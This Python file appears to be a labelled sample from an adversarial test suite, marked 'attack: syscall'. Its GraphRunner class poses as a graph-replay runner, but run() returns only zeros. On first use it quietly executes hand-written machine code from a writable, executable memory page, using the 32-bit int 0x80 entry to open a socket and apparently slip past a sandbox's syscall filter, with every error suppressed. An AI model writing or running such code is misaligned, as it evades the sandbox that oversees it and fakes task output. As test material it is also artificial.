# attack: syscall
# base: wrong_all
# outcome: failed: parity, bucket_choice, clone, padding, no_recapture or error: crash
"""Makes a socket by the 32-bit entry int 0x80, whose numbers mean other calls, from machine code
in a page that is written and executed."""

import ctypes
import mmap
import os
import platform

import torch


def attack(runner, x):
    if platform.machine() != "x86_64":
        return
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(bytes.fromhex("53 b8 67010000 bb 02000000 b9 01000000 31 d2 cd 80 5b c3".replace(" ", "")))
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    print(ctypes.CFUNCTYPE(ctypes.c_int)(start)())


class GraphRunner:
    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
        self.fn = fn
        self.buckets = list(buckets)
        self.static_in = torch.zeros(1, hidden, dtype=dtype)
        self.static_out = self.static_in
        self.graphs = {}
        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}

    def capture(self):
        self.stats["last_bucket"] = 0

    def run(self, x, force_eager=False):
        if "tried" not in os.environ:
            os.environ["tried"] = "1"
            try:
                attack(self, x)
            except BaseException:
                pass
        self.stats["replays"] += 1
        return torch.zeros_like(x)
